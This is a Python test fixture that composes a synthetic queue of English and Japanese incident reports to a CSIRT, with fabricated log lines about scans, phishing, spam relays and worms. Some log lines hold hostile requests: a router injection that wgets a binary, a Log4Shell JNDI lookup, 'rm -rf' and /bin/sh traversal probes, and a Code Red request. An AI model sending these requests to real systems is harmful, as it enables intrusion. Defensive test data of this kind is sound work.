"""A third composed queue, labelled before it was scored: two years at a centre, its customers in both languages.

Worms that many see from many sources, phishing that reuses its pages and kits, chains of
stepping stones, one site in trouble twice with a year between, many customers behind one address
or one web server, and what every log has in it.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from datetime import UTC, datetime, timedelta, timezone
from email.message import EmailMessage
from email.utils import format_datetime
from random import Random

from tests.sites.series.compose import Told

SEED = 30611
MIN, H, D = timedelta(minutes=1), timedelta(hours=1), timedelta(days=1)
START = datetime(2023, 4, 3, tzinfo=UTC)
JST = timezone(timedelta(hours=9))
_TOWNS = (
    "akita", "beppu", "chiba", "date", "ebina", "fukui", "gifu", "hakone", "iga", "joetsu", "kobe", "lahti", "mito",
    "nara", "oslo", "porto", "quito", "riga", "sendai", "turku", "uji", "vaasa", "wels", "yokote", "zug",
)  # fmt: skip
WHO = tuple(f"{town}-{kind}" for kind in ("univ", "bank", "city", "works") for town in _TOWNS)
REGISTERED = WHO[::3]
CARRIER = "198.51.100.7"
"""Where a mobile carrier lets thousands of customers out."""
WEB_HOTEL = "198.51.100.20"
"""A web server with the pages of hundreds of customers."""


def domain(who: str) -> str:
    """The domain of a site."""
    return f"{who}.example.{'jp' if WHO.index(who) % 2 else 'org'}"


def host(who: str, number: int) -> str:
    """One of the addresses of a site."""
    return f"2001:db8:{0x7000 + WHO.index(who):x}::{number:x}"


def register() -> str:
    """The register: a third of the sites, the carrier and the web hotel."""
    rows = [f"{w},{domain(w)},{host(w, 0)}/48,soc@{domain(w)}" for w in REGISTERED]
    rows += ["Carrier Mobile,carrier.example.net,198.51.100.0/28,abuse@carrier.example.net"]
    rows += ["Web Hotel,hotel.example.com,198.51.100.16/28,abuse@hotel.example.com"]
    return "\n".join(["name,domain,cidr,mail", *rows]) + "\n"


class _Years:
    def __init__(self) -> None:
        self.rng = Random(SEED)
        self._free = [f"{net}.{n}" for net in ("192.0.2", "203.0.113") for n in range(1, 255)]
        self._free += [f"198.51.100.{n}" for n in range(40, 250)]
        self.rng.shuffle(self._free)

    def address(self) -> str:
        return self._free.pop()

    def some(self, count: int, among: Sequence[str] = WHO) -> list[str]:
        return self.rng.sample(among, count)

    def day(self) -> datetime:
        return START + timedelta(days=self.rng.randrange(700), minutes=self.rng.randrange(1440))

    def after(self, low: float, high: float) -> timedelta:
        """So many hours."""
        return timedelta(minutes=self.rng.randrange(int(low * 60), int(high * 60)))

    def word(self, length: int = 7) -> str:
        return "".join(self.rng.choice("bcdfghjklmnprstvwz" if n % 2 else "aeiou") for n in range(length))


def incidents() -> list[Told]:
    """Return every report in the order in which it comes in; each opens an incident of its own."""
    years = _Years()
    together = (
        (chain, 4), (infected, 4), (kit, 4), (same_page, 4), (loader, 3), (sprayers, 3), (lookalike, 3), (crew, 3),
        (subnet, 3), (relay, 3), (told_by_a_feed, 3),
    )  # fmt: skip
    told = [one for plot, many in together for n in range(many) for one in plot(years, f"{plot.__name__} {n}")]
    apart = (worm, web_noise, guessing, again_next_year, web_hotel, carrier, resolvers, own_hosts, signatures, everyday)
    told += [one for plot in apart for one in plot(years)]
    return sorted(told, key=lambda one: one.sent)


def english(series: str, who: str, at: datetime, subject: str, prose: str, lines: Sequence[str] = ()) -> Told:
    """Compose a mail in English."""
    log = "\n".join(lines)
    body = f"Dear CERT team,\n\n{prose}\n\n{log}\n\nTimes are in UTC, NTP synchronised.\n\n--\n{who} SOC\n"
    return _mail(series, who, at, subject, body)


def form(series: str, who: str, at: datetime, kind: str, prose: str, lines: Sequence[str] = ()) -> Told:
    """Compose the centre's form in Japanese."""
    log = "\n".join(lines)
    body = (
        f"担当者名: {who} 担当\n組織名: {who}\nインシデントの種類: {kind}\n"
        f"発生日時: {at.astimezone(JST):%Y年%m月%d日 %H:%M}\n"
        f"開示条件: 全ての情報を開示可\n備考: 時刻は UTC、時計は正確です。\n\n概要:\n{prose}\n\nログ:\n{log}\n"
    )
    return _mail(series, who, at, f"インシデント報告 ({kind})", body)


def _mail(series: str, who: str, at: datetime, subject: str, body: str) -> Told:
    sent = at + 5 * H
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = f"soc@{domain(who)}", "report@csirt.example.jp", subject
    mail["Date"] = format_datetime(sent)
    mail["Message-ID"] = f"<{int(sent.timestamp() * 1000)}.{who}@{domain(who)}>"
    mail.set_content(body)
    return Told(series, sent, mail.as_bytes())


def _clf(at: datetime, source: str, request: str, agent: str = "-", status: int = 404) -> str:
    return f'{source} - - [{at:%d/%b/%Y:%H:%M:%S} +0000] "{request} HTTP/1.1" {status} 196 "-" "{agent}"'


def _sys(at: datetime, words: str, host: str = "gw") -> str:
    return f"{at:%b %e %H:%M:%S} {host} {words}"


# --- what belongs together ---------------------------------------------------------------


def chain(years: _Years, name: str) -> Iterator[Told]:
    """Two sites are attacked from a registered one, which then finds out that it was broken into from an address."""
    (stone,), victims, origin = years.some(1, REGISTERED), years.some(2), years.address()
    at = years.day()
    for who in victims:
        at += years.after(1, 30)
        words = f"Failed password for root from {host(stone, 0x19)} port"
        lines = [_sys(at + n * MIN, f"sshd[{311 + n}]: {words} {40000 + n} ssh2") for n in range(4)]
        prose = "ssh のログイン試行を受けています。発信元に連絡してください。"
        yield form(name, who, at, "不正アクセス試行", prose, lines)
    at += years.after(20, 60)
    lines = [_sys(at - 3 * D, f"sshd[901]: Accepted password for backup from {origin} port 51022 ssh2", "srv5")]
    prose = "貴センターからの連絡で調べたところ、サーバに侵入され、他のサイトへの攻撃の踏み台にされていました。"
    yield form(name, stone, at, "侵入", prose, lines)


def infected(years: _Years, name: str) -> Iterator[Told]:
    """A host of a site that is in no register sends mails and scans; three see it within days."""
    source, at = years.address(), years.day()
    words = (
        ("Spam", "We get spam from this host.", "postfix/smtpd[77]: NOQUEUE: reject: RCPT from unknown[{}]: 554 5.7.1"),
        ("Port scan", "Scans of our network.", "kernel: DROP IN=eth1 SRC={} DST=10.20.0.4 PROTO=TCP DPT=445 SYN"),
        ("SMTP AUTH attack", "Password guessing on our mail server.", "dovecot: imap-login: auth failed, rip={}"),
    )
    for who, (subject, prose, line) in zip(years.some(3), words, strict=True):
        at += years.after(4, 50)
        lines = [_sys(at + n * MIN, line.format(source)) for n in range(3)]
        yield english(name, who, at, subject, prose, lines)


def kit(years: _Years, name: str) -> Iterator[Told]:
    """One phishing kit stands on several broken-in web servers, each with its own name."""
    path = f"/{years.word(5)}/{years.word(4)}-{years.word(6)}/otp_{years.word(3)}.php"
    at = years.day()
    for who in years.some(3):
        at += years.after(10, 120)
        url = f"https://www.{years.word()}.example.com{path}"
        prose = f"フィッシングサイトを確認しました。停止の調整をお願いします。\n{url.replace('http', 'hxxp')}"
        yield form(name, who, at, "フィッシング", prose)


def same_page(years: _Years, name: str) -> Iterator[Told]:
    """One page is reported by the bank, by a customer's employer and by somebody who got the mail."""
    server, at = f"{years.word()}-login.example.net", years.day()
    url = f"http://{server}/bank/{years.word(4)}/"
    bank, employer, other = years.some(3)
    yield form(name, bank, at, "フィッシング", f"当行をかたるフィッシングサイトです。 {url}")
    at += years.after(2, 20)
    yield english(name, employer, at, "Phishing", f"A member of staff entered a password at {url}?s={years.word(5)}")
    at += years.after(2, 40)
    prose = f"Please take down: hxxp://{server.replace('.', '[.]')}/"
    yield english(name, other, at, "phishing mail received", prose)


def loader(years: _Years, name: str) -> Iterator[Told]:
    """Devices are told to fetch one program from one server, by different bots."""
    server, file, at = years.address(), f"{years.word(6)}.arm7", years.day()
    for who in years.some(3):
        at += years.after(3, 60)
        request = f"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&c=$(wget+http://{server}/{file})"
        lines = [_clf(at + n * MIN, years.address(), request, "Go-http-client/1.1") for n in range(2)]
        yield english(name, who, at, "Router exploit attempts", "Exploit attempts against our web front end.", lines)


def sprayers(years: _Years, name: str) -> Iterator[Told]:
    """A small botnet tries the mailboxes of several sites, each bot a few times."""
    bots, at = [years.address() for _ in range(7)], years.day()
    for who in years.some(3):
        at += years.after(3, 40)
        words = "mx2 dovecot: imap-login: auth failed"
        lines = [
            f"{at + n * MIN:%Y-%m-%dT%H:%M:%SZ} {words} user=<user{n}> rip={bot} lip=10.1.1.9"
            for n, bot in enumerate(years.rng.sample(bots, 5))
        ]
        yield form(name, who, at, "不正アクセス試行", "メールサーバで認証の失敗が続いています。", lines)


def lookalike(years: _Years, name: str) -> Iterator[Told]:
    """Somebody writes to two or three companies in the name of a supplier, from one made-up domain."""
    sender, at = f"billing@{years.word()}-suppIy.example.com", years.day()
    for who in years.some(3):
        at += years.after(12, 100)
        prose = f"Accounting got mails from {sender} that ask for payment to another bank account."
        yield english(name, who, at, "Business e-mail compromise attempt", prose)


def crew(years: _Years, name: str) -> Iterator[Told]:
    """A crew defaces sites and leaves a page of its own name."""
    page, at = f"/{years.word(4)}_{years.word(5)}.htm", years.day()
    for who in years.some(3):
        at += years.after(1, 30)
        source = years.address()
        lines = [_clf(at, source, f"PUT {page}", "curl/7.81", 201), _clf(at + MIN, source, f"GET {page}", "-", 200)]
        prose = "ウェブページが書き換えられました。復旧しましたが、原因を調べています。"
        yield form(name, who, at, "Web 改ざん", prose, lines)


def subnet(years: _Years, name: str) -> Iterator[Told]:
    """Several hosts of one /64 that is in no register scan on one day."""
    net, at = f"2001:db8:{0xC100 + int(name[-1]):x}:5", years.day()
    for who in years.some(3):
        at += years.after(0.5, 6)
        source = f"{net}:{years.rng.randrange(0x1000, 0xFFFF):x}::{years.rng.randrange(1, 0xFFF):x}"
        lines = [_sys(at + n * MIN, f"sshd[{87 + n}]: Invalid user test from {source} port 22{n}1") for n in range(3)]
        yield english(name, who, at, "SSH scan", "SSH scans from this address.", lines)


def relay(years: _Years, name: str) -> Iterator[Told]:
    """An open relay of a registered site passes spam to others, and its owner sees the queue grow."""
    (owner,), victims = years.some(1, REGISTERED), years.some(2)
    at = years.day()
    for who in victims:
        at += years.after(1, 20)
        line = f"postfix/smtpd[5]: client=mail.{domain(owner)}[{host(owner, 0x25)}], reject: spam"
        yield english(name, who, at, "Spam", "Spam reaches us through this relay.", [_sys(at, line, "mx")])
    at += years.after(5, 40)
    lines = [_sys(at, f"postfix/qmgr[8]: 4DA: from=<x@{domain(owner)}>, nrcpt=300 (queue active)", "mail")]
    prose = f"当方のメールサーバ mail.{domain(owner)} ({host(owner, 0x25)}) が第三者に不正に中継されていました。"
    yield form(name, owner, at, "スパムメールの踏み台", prose, lines)


def told_by_a_feed(years: _Years, name: str) -> Iterator[Told]:
    """A feed lists a host that a site has reported by hand."""
    source, at = years.address(), years.day()
    by_hand, feed = years.some(2)
    lines = [_sys(at, f"sshd[4]: Failed password for invalid user pi from {source} port 40122 ssh2")]
    yield form(name, by_hand, at, "スキャン", "ssh へのアクセスがあります。", lines)
    at += years.after(3, 60)
    rows = ["timestamp,ip,port,protocol,infection", f"{at:%Y-%m-%d %H:%M:%S},{source},40122,tcp,bruteforce"]
    yield english(name, feed, at, "Daily feed of attacking hosts", "Hosts that attacked our sensors:", rows)


# --- what does not ------------------------------------------------------------------------


def worm(years: _Years) -> Iterator[Told]:
    """The same worm knocks everywhere, each time from another infected host."""
    request = "GET /default.ida?XXXXXXXXXXXXXXXXXXXXXXXXXXXX%u9090%u6858%ucbd3%u7801=a"
    for who in years.some(8):
        at, source = years.day(), years.address()
        lines = [_clf(at + n * MIN, source, request) for n in range(2)]
        yield form("", who, at, "スキャン", "Code Red と思われるアクセスです。", lines)
    for who in years.some(6):
        at = years.day()
        ends = f"{years.address()}:1024 -> {host(who, 9)}:1434"
        line = f"snort: [1:2003:8] MS-SQL Worm propagation attempt {{UDP}} {ends}"
        yield english("", who, at, "SQL Slammer", "Worm traffic from this host.", [_sys(at, line)])


def web_noise(years: _Years) -> Iterator[Told]:
    """Bots ask every server for the holes of the year."""
    requests = (
        "POST /GponForm/diag_Form?images/", "GET /shell?cd+/tmp;rm+-rf+*", "GET /.env", "POST /boaform/admin/formLogin",
        "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "GET /?x=${jndi:ldap://10.0.0.1/a}",
        "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "GET /actuator/gateway/routes",
        "GET /autodiscover/autodiscover.json",
    )  # fmt: skip
    for request in requests:
        for who in years.some(2):
            at, source = years.day(), years.address()
            lines = [_clf(at, source, request, "Mozilla/5.0 zgrab/0.x")]
            yield english("", who, at, "Web attack", "Our web server was probed from this address.", lines)


def guessing(years: _Years) -> Iterator[Told]:
    """Everybody's password guessers try everybody's names."""
    for who in years.some(12):
        at, source = years.day(), years.address()
        users = years.rng.sample(("oracle", "postgres", "jenkins", "ubuntu", "git", "ftpuser", "minecraft", "dev"), 4)
        lines = [_sys(at + n * MIN, f"sshd[{n + 60}]: Invalid user {user} from {source} port 4{n}122")
                 for n, user in enumerate(users)]  # fmt: skip
        yield form("", who, at, "不正アクセス試行", "パスワード推測の試行です。", lines)


def again_next_year(years: _Years) -> Iterator[Told]:
    """The same site, even the same address, is in trouble again more than a year later, for another reason."""
    for who in years.some(5, REGISTERED):
        first = START + timedelta(days=years.rng.randrange(60))
        for n, at in enumerate((first, first + timedelta(days=years.rng.randrange(420, 600)))):
            reporter = years.some(1)[0]
            source = host(who, 0x33)
            telnet = f"kernel: DROP IN=eth0 SRC={source} DST=10.0.0.2 PROTO=TCP DPT=23 SYN"
            line = telnet if n else f"sshd[9]: Failed password for root from {source} port 4122 ssh2"
            subject = "Port scan" if n else "SSH attack"
            yield english("", reporter, at, subject, "Please contact the source.", [_sys(at, line)])


def web_hotel(years: _Years) -> Iterator[Told]:
    """Pages of different customers, on one web server, are abused by different people."""
    for who in years.some(6):
        at, name = years.day(), years.word()
        url = f"http://{name}.example.com/{years.word(5)}/{years.word(4)}.html"
        yield form("", who, at, "フィッシング", f"フィッシングサイト {url} ({WEB_HOTEL}) の停止をお願いします。")


def carrier(years: _Years) -> Iterator[Told]:
    """Thousands of customers come out of one address: two cases from there have nothing to do with each other."""
    for n, who in enumerate(years.some(4)):
        at = START + timedelta(days=100 * n + years.rng.randrange(30), hours=years.rng.randrange(24))
        line = (
            "postfix/smtpd[1]: reject: RCPT from unknown[{}]: 554",
            "sshd[5]: Failed password for admin from {} port 1022 ssh2",
            "kernel: DROP IN=ppp0 SRC={} DST=10.3.0.1 PROTO=TCP DPT=3389 SYN",
            "vsftpd[7]: FAIL LOGIN: Client {}",
        )[n].format(CARRIER)
        yield english("", who, at, "Abuse", "We see this from a mobile carrier's address.", [_sys(at, line)])


def resolvers(years: _Years) -> Iterator[Told]:
    """Private addresses, resolvers and gateways stand in everybody's logs."""
    for who in years.some(8):
        at, source = years.day(), years.address()
        lines = [
            _sys(at, f"named[3]: client 192.168.1.10#5353 query: www.{years.word()}.example.com IN A via 8.8.8.8"),
            _sys(at, f"kernel: SRC={source} DST=192.168.1.1 PROTO=UDP DPT=53"),
            _sys(at, f"dnsmasq[2]: forwarded to 10.0.0.53 and 1.1.1.1 for 192.168.1.{years.rng.randrange(3, 9)}"),
        ]
        yield english("", who, at, "DNS amplification attempt", "Somebody queries our resolver.", lines)


def own_hosts(years: _Years) -> Iterator[Told]:
    """A site reports what happens to its own servers, month after month."""
    for who in years.some(3):
        at = years.day()
        for kind in ("スキャン", "迷惑メール", "DoS"):
            at += years.after(60, 700)
            lines = [_sys(at, f"kernel: SRC={years.address()} DST={host(who, 0x80)} host=www.{domain(who)} DPT=80")]
            yield form("", who, at, kind, f"www.{domain(who)} ({host(who, 0x80)}) への攻撃です。", lines)


def signatures(years: _Years) -> Iterator[Told]:
    """Detection names, Windows folders and advisories are the same in unrelated cases."""
    files = (r"C:\Windows\Temp\svchost.exe", r"C:\Users\Public\Libraries\update.dll", r"%APPDATA%\Roaming\invoice.js")
    for path in files:
        for who in years.some(3):
            at = years.day()
            prose = f"Antivirus found Trojan.GenericKD.{years.rng.randrange(10**7, 10**8)} in {path} on one PC."
            prose += " We have checked CVE-2017-11882 and MS17-010. The PC called no server that we know of."
            yield english("", who, at, "Malware infection", prose)


def everyday(years: _Years) -> Iterator[Told]:
    """The scans of a quiet week."""
    for who in years.some(14):
        at, source = years.day(), years.address()
        port = years.rng.choice((23, 445, 3389, 5900, 8080))
        lines = [_sys(at + n * MIN, f"kernel: DROP IN=eth0 SRC={source} DST={host(who, 2)} PROTO=TCP DPT={port} SYN")
                 for n in range(2)]  # fmt: skip
        yield form("", who, at, "スキャン", "ポートスキャンを受けました。", lines)
